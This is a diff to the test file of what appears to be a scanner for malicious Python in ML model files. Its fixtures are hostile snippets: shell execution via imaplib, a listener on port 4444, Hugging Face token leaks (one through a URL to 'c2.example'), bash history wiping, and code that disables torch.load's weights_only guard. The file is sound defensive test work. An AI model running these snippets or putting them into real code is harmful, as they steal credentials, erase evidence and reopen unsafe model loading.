@@ -5,6 +5,7 @@ import pytest
 from modelscan_plus.core.finding import Severity
 from modelscan_plus.formats.text.python.families import FAMILIES, family
 from tests.rules.test_linked_code import worst
+from tests.samples import inspect_tree
 
 ACTS = {
     "program of a mail client": "import imaplib\nimaplib.IMAP4_stream('sh -c \"id\"')",
@@ -45,6 +46,11 @@ ACTS = {
     "loop": "import asyncio\nl = asyncio.new_event_loop()\nl.run_until_complete(l.create_server(asyncio.Protocol, '0.0.0.0', 4444))",
     "windows": "import ctypes\nctypes.windll.kernel32.WinExec(b'calc', 0)",
     "found by a library": "import sentence_transformers.util as u\nu.import_from_string('os.system')('id')",
+    "name asked for": "from huggingface_hub import get_token, hf_hub_download\nhf_hub_download('a/b', f'{get_token()}.json')",
+    "history": "import os\nopen(os.path.expanduser('~/.bash_history'), 'w').close()",
+    "guard taken away": "import functools, torch\ntorch.load = functools.partial(torch.load, weights_only=False)",
+    "guard in a function": "import torch\n_l = torch.load\ndef load(*a, **k):\n    k['weights_only'] = False\n    return _l(*a, **k)\ntorch.load = load",
+    "guard in the environment": "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'",
     "any opener": "import os, webbrowser\nwebbrowser.open_new_tab('https://c2.example/?t=' + os.environ.get('HF_TOKEN', ''))",
 }  # fmt: skip
 HARMLESS = {
@@ -65,6 +71,9 @@ HARMLESS = {
     "memory of node": "import os\nos.environ['NODE_OPTIONS'] = '--max-old-space-size=4096'",
     "compiler": "import os\nos.environ['CC'] = 'gcc-12'",
     "path is asked for": "import os\nos.path.exists('/home/user/.ssh/id_rsa')",
+    "own key": "import os\nfrom huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c.json', token=os.environ['HF_TOKEN'])",
+    "guard put in": "import torch\n_l = torch.load\ndef load(*a, **k):\n    k.setdefault('weights_only', True)\n    return _l(*a, **k)\ntorch.load = load",
+    "guard asked for": "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '0'",
     "title": "import setproctitle\nsetproctitle.setproctitle('worker')",
 }
 
@@ -77,6 +86,14 @@ def test_every_function_of_such_a_module_is_known(model: str) -> None:
 @pytest.mark.parametrize("model", HARMLESS.values(), ids=HARMLESS)
 def test_what_only_asks_is_no_finding(model: str) -> None:
     assert worst(model) < Severity.HIGH.rank
+
+
+def test_a_server_may_unguard_its_own_loads() -> None:
+    code = ACTS["guard taken away"]
+    tree = {
+        "handler.py": (code + "\nclass EndpointHandler:\n    def __init__(self, path=''):\n        pass\n").encode()
+    }
+    assert max((found.severity.rank for found in inspect_tree(tree)), default=0) < Severity.HIGH.rank
 
 
 def test_the_longest_entry_decides() -> None:
